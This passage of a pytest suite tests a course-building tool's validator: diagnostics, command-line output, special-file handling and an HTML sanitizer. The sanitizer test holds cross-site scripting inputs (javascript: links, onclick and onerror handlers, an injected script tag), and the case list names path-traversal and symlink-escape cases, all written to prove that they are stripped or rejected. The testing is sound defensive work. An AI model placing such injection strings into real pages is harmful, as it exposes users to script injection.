    "path: .. in an image path", "symlink: image out of the course", "language: underscore",
    "empty: no course.yaml at all", "raw HTML: <script> removed", "raw HTML: safe subset kept",
    "byte-order mark on every file", "image name with spaces and non-ASCII letters",
}


def test_catalogue_is_large_enough() -> None:
    assert len(REJECTED) + len(WARNED) + len(SILENT) >= 60
    names = [case.name for case in (*REJECTED, *WARNED, *SILENT)]
    assert len(names) == len(set(names))
    assert set(names) >= CLI_CASES


def _expected_line(case: Case, root: Path) -> int | None:
    return case.line(root) if callable(case.line) else case.line


def _matching(report, case: Case, severity: Severity):
    return [d for d in report.diagnostics
            if d.severity is severity and all(s in f"{d.message} {d.hint}" for s in case.says)]


@pytest.mark.parametrize("case", REJECTED, ids=[c.name for c in REJECTED])
def test_rejected(case: Case, course_copy: Path) -> None:
    case.edit(course_copy)
    course, report = load_course(course_copy)
    assert course is None, "a course with errors is never built"
    found = _matching(report, case, Severity.ERROR)
    assert found, f"no error says {case.says}; got:\n{report.render()}"
    expected_file = case.file or str(course_copy)
    diagnostic = next((d for d in found if d.file == expected_file), found[0])
    assert diagnostic.file == expected_file, diagnostic.as_text()
    expected_line = _expected_line(case, course_copy)
    if expected_line is not None:
        assert diagnostic.line == expected_line, diagnostic.as_text()
    assert diagnostic.hint or "must be" in diagnostic.message, f"every error says how to fix it: {diagnostic.as_text()}"


@pytest.mark.parametrize("case", WARNED, ids=[c.name for c in WARNED])
def test_warned(case: Case, course_copy: Path) -> None:
    case.edit(course_copy)
    course, report = load_course(course_copy)
    assert course is not None and not report.has_errors, report.render()
    found = _matching(report, case, Severity.WARNING)
    assert found, f"no warning says {case.says}; got:\n{report.render()}"
    assert found[0].file == case.file, found[0].as_text()
    expected_line = _expected_line(case, course_copy)
    if expected_line is not None:
        assert found[0].line == expected_line, found[0].as_text()
    assert found[0].hint, "a warning says what to do about it"


@pytest.mark.parametrize("case", SILENT, ids=[c.name for c in SILENT])
def test_accepted_silently(case: Case, course_copy: Path, example_course) -> None:
    case.edit(course_copy)
    course, report = load_course(course_copy)
    assert course is not None and not report.diagnostics, report.render()
    # The same course as the untouched one: titles, quiz prompts and page text survive the odd encoding.
    assert course.title == example_course.title
    assert [lesson.id for lesson in course.lessons] == [lesson.id for lesson in example_course.lessons]
    for lesson, original in zip(course.lessons, example_course.lessons, strict=True):
        assert lesson.title == original.title
        assert [q.prompt for q in lesson.quiz.questions] == [q.prompt for q in original.quiz.questions]
        assert [p.title for p in lesson.pages] == [p.title for p in original.pages]


def test_raw_html_policy_keeps_the_safe_subset_and_removes_the_rest(course_copy: Path) -> None:
    add_to_page('Press <kbd>Ctrl</kbd>. <a href="javascript:alert(1)" onclick="x()">link</a>'
                '<script>window.pwned = 1</script><img src="assets/headset.svg" alt="Headset" onerror="x()">'
                '<iframe src="https://example.com"></iframe>')(course_copy)
    course, report = load_course(course_copy)
    assert course is not None, report.render()
    html = course.lessons[0].pages[0].html["en"]
    assert "<kbd>Ctrl</kbd>" in html
    assert ">link</a>" in html
    asset = course.lessons[0].assets[0]
    assert f'src="{asset.href}"' in html and 'alt="Headset"' in html
    for gone in ("javascript:", "onclick", "onerror", "<script", "pwned", "<iframe"):
        assert gone not in html, gone


def test_language_without_player_strings_falls_back_to_english(course_copy: Path) -> None:
    """A well-formed language we have no player strings for (here fr) is accepted; the player shows English."""
    for path in source_files(course_copy):
        path.write_text(path.read_text(encoding="utf-8").replace("zh-Hant", "fr"), encoding="utf-8")
        if ".zh-Hant." in path.name:
            path.rename(path.with_name(path.name.replace(".zh-Hant.", ".fr.")))
    course, report = load_course(course_copy)
    assert course is not None and not report.has_errors, report.render()
    assert course.languages == ("en", "fr")
    assert ui_strings("fr") == ui_strings("en")


def test_language_without_player_strings_is_warned_about(course_copy: Path, tmp_path: Path) -> None:
    for path in source_files(course_copy):
        path.write_text(path.read_text(encoding="utf-8").replace("zh-Hant", "fr"), encoding="utf-8")
        if ".zh-Hant." in path.name:
            path.rename(path.with_name(path.name.replace(".zh-Hant.", ".fr.")))
    result = subprocess.run([str(COURSEBUILD), "build", str(course_copy), "-o", str(tmp_path / "out"),
                             "-f", "scorm12", "--lang", "fr"], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    assert "course.yaml: warning: coursebuild has no player words in 'fr'" in result.stderr
    assert "will be in English" in result.stderr and "builder/strings/player/fr.json" in result.stderr


CLI = [case for case in (*REJECTED, *WARNED, *SILENT) if case.name in CLI_CASES]


@pytest.mark.parametrize("case", CLI, ids=[c.name for c in CLI])
def test_console_script(case: Case, course_copy: Path) -> None:
    """The installed `coursebuild validate`: exit code, the place and the fix in the output, never a traceback."""
    case.edit(course_copy)
    result = run_validate(course_copy)
    output = result.stdout + result.stderr
    assert "Traceback" not in output and "internal error" not in output, output
    if case in REJECTED:
        assert result.returncode == 1, output
        location = case.file or str(course_copy)
        line = _expected_line(case, course_copy)
        assert f"{location}:{line}" in output if line else location in output, output
        assert "fix:" in output, output
        assert "failed" in output
    elif case in WARNED:
        assert result.returncode == 0, output
        line = _expected_line(case, course_copy)
        assert f"{case.file}:{line}: warning:" in output if line else f"{case.file}: warning:" in output, output
    else:
        assert result.returncode == 0, output
        assert "warning:" not in output and "error:" not in output, output
        assert "ok, 2 lessons (0 errors, 0 warnings)" in output, output


def test_the_untouched_example_is_silent() -> None:
    """The baseline every SILENT case is measured against."""
    course, report = load_course(EXAMPLE_COURSE)
    assert course is not None and not report.diagnostics, report.render()


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _device(path: Path) -> None:
    try:
        os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 5))  # the kernel's endless source of zeros
    except (OSError, AttributeError) as exc:
        pytest.skip(f"cannot make a device node here: {exc}")


def _socket(path: Path) -> None:
    server, here = socket.socket(socket.AF_UNIX), os.getcwd()
    try:
        os.chdir(path.parent)  # a socket's path is limited to about 100 bytes: bind by its name alone
        server.bind(path.name)
    except OSError as exc:
        pytest.skip(f"cannot bind a socket at {path}: {exc}")
    finally:
        os.chdir(here)
        server.close()


def _loop(path: Path) -> None:
    os.symlink(path.name, path)


SPECIAL_FILES = {
    "named pipe as quiz.yaml": (QUIZ, _fifo, "is a named pipe, not a file"),
    "named pipe as a page": (PAGE, _fifo, "is a named pipe, not a file"),
    "named pipe as course.yaml": (COURSE, _fifo, "is a named pipe, not a file"),
    "named pipe as an image": (f"{ASSETS}/headset.svg", _fifo, "is a named pipe, not a file"),
    "device as glossary.yaml": (GLOSSARY, _device, "is a character device, not a file"),
    "socket as lesson.yaml": (LESSON, _socket, "is a socket, not a file"),
    "link to itself as quiz.yaml": (QUIZ, _loop, "cannot read this quiz file"),
}


@pytest.mark.parametrize("name", list(SPECIAL_FILES))
def test_special_files_are_never_opened(name: str, course_copy: Path) -> None:
    """Where a source belongs, a named pipe (which blocks its reader until someone writes), a device or a
    socket is named as such, and never opened. Run as a child with a time limit, so that a regression
    fails this test instead of hanging the suite."""
    rel, make, says = SPECIAL_FILES[name]
    (course_copy / rel).unlink()
    make(course_copy / rel)
    env = {**os.environ, "NO_COLOR": "1"}
    try:
        result = subprocess.run([str(COURSEBUILD), "validate", str(course_copy)], capture_output=True, text=True,
                                env=env, timeout=60, check=False)
    except subprocess.TimeoutExpired:
        pytest.fail(f"validate hung on {name}")
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "Traceback" not in output
    # Named where it stands: as the file in error, or (an image) in the error at the line that shows it.
    assert any(rel in line and ": error:" in line and says in line for line in output.splitlines()), output
